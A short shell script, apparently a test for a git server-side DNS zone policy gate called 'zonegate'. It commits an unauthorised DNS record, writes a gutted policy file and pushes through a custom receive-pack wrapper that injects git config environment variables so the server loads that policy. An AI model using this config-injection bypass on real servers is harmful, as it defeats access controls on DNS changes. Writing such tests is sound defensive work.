evil=$PWD/../evil
mkdir -p "$evil"
sed '/^targets:/,/^severity:/{/^severity:/!d}' zonegate.yaml >"$evil/policy.yaml"
git config --file "$evil/config" zonegate.policy "$evil/policy.yaml"
echo 'api 60 A 203.0.113.77' >>zones/external/example.com.zone
git commit -q -a -m bad
# git clears some of these for a server on the same machine; an ssh server that
# accepts them does not: receive-pack is given them here.
cat >"$evil/receive-pack" <<END
#!/bin/sh
GIT_CONFIG_GLOBAL=$evil/config GIT_CONFIG_SYSTEM=$evil/config \\
GIT_CONFIG=$evil/config GIT_CONFIG_NOSYSTEM=0 GIT_CONFIG_COUNT=1 \\
GIT_CONFIG_KEY_0=zonegate.policy GIT_CONFIG_VALUE_0=$evil/policy.yaml \\
GIT_CONFIG_PARAMETERS="'zonegate.policy'='$evil/policy.yaml'" \\
exec git-receive-pack "\$@"
END
chmod +x "$evil/receive-pack"
PATH=$(git --exec-path):$PATH git push --receive-pack="$evil/receive-pack" origin HEAD:main
